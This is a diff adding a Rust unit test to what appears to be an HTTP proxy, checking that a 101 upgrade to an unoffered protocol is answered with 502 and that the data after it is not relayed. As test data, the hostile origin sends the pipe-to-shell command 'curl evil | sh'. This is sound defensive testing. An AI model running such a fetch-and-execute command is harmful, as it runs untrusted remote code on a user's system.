@@ -342,6 +342,43 @@ fn a_declined_upgrade_goes_on_as_http() {
     assert!(p.handover.is_none() && !p.closed);
 }
 
+/// A `101` that switches to another protocol than the one offered (or names none) is a 502,
+/// not a blind relay (found by a hostile-origin probe: `Upgrade: h2c` or no `Upgrade` answering
+/// a WebSocket request was relayed unscanned).
+#[test]
+fn a_101_to_a_protocol_the_request_did_not_offer_is_502() {
+    for answer in [
+        "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
+        "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n\r\n",
+        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket, h2c\r\n\r\n",
+    ] {
+        let mut p = Pair::new();
+        p.client_sends(
+            b"GET http://a/ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
+        );
+        let a = p.connect_last();
+        p.origin_sends(a, format!("{answer}curl evil | sh").as_bytes());
+        assert_eq!(p.statuses, [502], "{answer}");
+        assert!(!p.received().contains("evil"), "{answer}");
+        assert!(p.closed && p.handover.is_none(), "{answer}");
+    }
+    // The offered protocol in any case, with a version, is the agreed switch.
+    let mut p = Pair::new();
+    p.client_sends(
+        b"GET http://a/ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: foo/2, WebSocket\r\n\r\n",
+    );
+    let a = p.connect_last();
+    p.origin_sends(
+        a,
+        b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
+    );
+    assert!(
+        matches!(p.handover, Some(Action::Upgrade(_))),
+        "{:?}",
+        p.statuses
+    );
+}
+
 #[test]
 fn an_unsolicited_101_is_502_and_what_follows_is_not_relayed() {
     let mut p = Pair::new();
